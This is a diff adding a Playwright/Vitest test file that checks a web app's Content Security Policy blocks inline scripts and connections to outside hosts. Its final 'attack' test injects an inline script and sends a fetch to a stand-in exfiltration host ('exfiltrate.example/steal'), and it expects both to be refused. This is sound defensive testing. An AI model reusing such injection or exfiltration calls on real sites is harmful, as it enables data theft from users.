@@ -1,0 +1,99 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { launchBrowser, newPage } from '../support/browser.ts';
+import { signedInPage } from '../support/sign-in.ts';
+import { verifiedStudent } from '../management/support.ts';
+import { publicPages } from '../site/public-pages.ts';
+
+// The pages' CSP has no 'unsafe-inline' for scripts and connects only to the site's own origin (issue
+// 17). The two early inline scripts run because the policy carries their hashes; anything else inline,
+// or a connection to another host, is refused.
+const baseUrl = inject('baseUrl');
+let browser: Browser;
+
+beforeAll(async () => {
+  browser = await launchBrowser();
+});
+
+afterAll(async () => {
+  await browser?.close();
+});
+
+/** The browser's CSP refusals on a page, as Chromium reports them on the console. */
+function cspRefusals(page: Page): string[] {
+  const lines: string[] = [];
+  page.on('console', (message) => {
+    if (/Content Security Policy/i.test(message.text())) lines.push(message.text());
+  });
+  return lines;
+}
+
+describe('the Content Security Policy of the pages', () => {
+  it('has no unsafe-inline for scripts, and connect-src is the own origin only', async () => {
+    const response = await fetch(`${baseUrl}/management/login`);
+    const csp = response.headers.get('content-security-policy')!;
+    const scriptSrc = /script-src ([^;]*)/.exec(csp)![1]!;
+    expect(scriptSrc).not.toContain('unsafe-inline');
+    expect(scriptSrc).toMatch(/'sha256-[\w+/=]+'/);
+    expect(/connect-src ([^;]*)/.exec(csp)![1]).toBe("'self'");
+  });
+
+  it('lets every public page run its early script, with no refusal', async () => {
+    const { context, page } = await newPage(browser);
+    const refusals = cspRefusals(page);
+    for (const { path } of [...publicPages, { path: '/no-such-page' }]) {
+      await page.goto(`${baseUrl}${path}`);
+      expect(await page.evaluate(() => document.documentElement.classList.contains('js')), path).toBe(true);
+    }
+    expect(refusals).toEqual([]);
+    await context.close();
+  });
+
+  it('lets the management app run its theme script before the first paint, with no refusal', async () => {
+    const { context, page } = await newPage(browser, { colorScheme: 'dark' });
+    const refusals = cspRefusals(page);
+    await page.goto(`${baseUrl}/management/login`);
+    await page.getByRole('button', { name: 'Sign in' }).waitFor();
+    expect(await page.evaluate(() => document.documentElement.classList.contains('dark'))).toBe(true);
+    expect(refusals).toEqual([]);
+    await context.close();
+  });
+
+  it('opens the realtime socket on the own origin once signed in, with no refusal', async () => {
+    const student = await verifiedStudent(baseUrl);
+    const { context, page } = await newPage(browser);
+    const refusals = cspRefusals(page);
+    const socket = page.waitForEvent('websocket', (ws) => new URL(ws.url()).pathname === '/ws');
+    await page.goto(`${baseUrl}/management/login`);
+    await page.getByLabel('Email').fill(student.email);
+    await page.getByLabel('Password', { exact: true }).fill(student.password);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    expect(new URL((await socket).url()).host).toBe(new URL(baseUrl).host);
+    expect(refusals).toEqual([]);
+    await context.close();
+  });
+
+  it('attack: an injected inline script does not run, and a connection to another host is refused', async () => {
+    const admin = inject('demoAccounts').find((account) => account.role === 'admin')!;
+    const { context, page } = await signedInPage(browser, baseUrl, admin);
+    const refusals = cspRefusals(page);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.__injected = true;';
+      document.head.append(script);
+    });
+    expect(await page.evaluate(() => (window as { __injected?: boolean }).__injected)).toBeUndefined();
+
+    const outcome = await page.evaluate(() =>
+      fetch('http://exfiltrate.example/steal').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(outcome).toBe('refused');
+    await expect.poll(() => refusals.length).toBeGreaterThanOrEqual(2);
+    expect(refusals.some((line) => /script/i.test(line))).toBe(true);
+    expect(refusals.some((line) => /connect/i.test(line))).toBe(true);
+    await context.close();
+  });
+});
